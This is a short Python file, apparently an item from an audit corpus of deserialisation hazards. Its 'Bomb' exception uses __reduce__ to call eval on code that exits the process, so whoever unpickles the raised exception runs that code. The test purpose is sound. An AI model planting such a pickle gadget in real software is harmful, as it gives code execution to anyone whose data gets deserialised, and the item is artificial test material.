# pickle-exception (deserialisation): The raised exception runs code in whoever unpickles it.
# Part of Assay's audit corpus. Run it only inside of a sandbox under test.

class Bomb(Exception):
    def __reduce__(self):
        return eval, ("__import__('os')._exit(0)",)


def digest(values):
    raise Bomb("0")
